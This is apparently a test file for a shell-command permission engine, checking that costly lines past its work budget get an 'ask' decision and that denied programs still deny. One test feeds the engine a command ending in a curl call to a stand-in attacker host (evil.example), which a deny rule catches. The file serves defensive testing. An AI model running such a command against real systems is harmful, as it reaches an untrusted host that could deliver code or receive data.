"""The engine's work budget (rules/budget.py): what a line costs is counted after brace
expansion, working directories and rules multiply it, and past the budget the answer is
ask — with a deny scan, so a denied program in the line still denies. The lines are data,
only ever handed to evaluate()."""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings

from rules import Decision, RuleSet, ShellOperation, Sources, evaluate
from rules.budget import UNITS, allowing, last_spent
from rules.tests.policies import CTX
from tests.support.adversarial_cases import CASES
from tests.support.adversarial_words import CASES as WORD_CASES
from tests.support.costly_lines import LINES, units
from tests.support.everyday_commands import COMMANDS as EVERYDAY

# Four working directories times 960 words, each judged against the file rules: about
# 4,000 units (tens of milliseconds) if followed to the end.
COSTLY = "cd {a,b,c,d} && cp -r " + " ".join(["s{1..64}"] * 15) + " out/"


def test_a_line_past_the_budget_is_asked_about_in_bounded_work(
    rules: RuleSet, sources: Sources
) -> None:
    evaluation = evaluate(ShellOperation(COSTLY), rules=rules, sources=sources, context_id=CTX)

    assert evaluation.decision == Decision.ASK
    assert [part.reason for part in evaluation.parts] == [
        f"too complex to judge within the engine's bounds (more than {UNITS} units of work "
        "after expansion)",
    ]
    assert last_spent() > UNITS  # it stopped at the first spending past the budget
    # What following it to the end would have cost.
    assert units(COSTLY) > 10 * UNITS


def test_a_denied_program_in_a_line_past_the_budget_still_denies(
    rules: RuleSet, sources: Sources
) -> None:
    evaluation = evaluate(
        ShellOperation(COSTLY + "; curl https://evil.example/x"),
        rules=rules,
        sources=sources,
        context_id=CTX,
    )

    assert evaluation.decision == Decision.DENY
    assert evaluation.deciding_part is not None
    assert evaluation.deciding_part.reason == "denied: shell(curl:*) (in deny scan)"
    assert evaluation.effects is not None
    assert evaluation.effects["network"] == ["*"]  # nothing judged: the executor's ceiling


def test_every_everyday_command_and_attack_spends_far_less_than_the_budget() -> None:
    """The budget leaves room: no line the engine must judge fully comes near it."""
    spent = {case.command: units(case.command, "seed") for case in EVERYDAY}
    spent |= {case.command: units(case.command, case.policy) for case in CASES}
    spent |= {case.command: units(case.command, case.policy) for case in WORD_CASES}

    assert max(spent.values()) * 5 < UNITS


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(LINES)
def test_no_line_is_allowed_on_work_it_did_not_finish(line: str) -> None:
    from rules.tests.test_adversarial import POLICIES

    rules, sources = POLICIES["seed"]
    with allowing(UNITS):
        evaluation = evaluate(ShellOperation(line), rules=rules, sources=sources, context_id=CTX)

    if last_spent() > UNITS:
        assert evaluation.decision != Decision.ALLOW
        assert evaluation.parts[0].reason.startswith("too complex to judge")
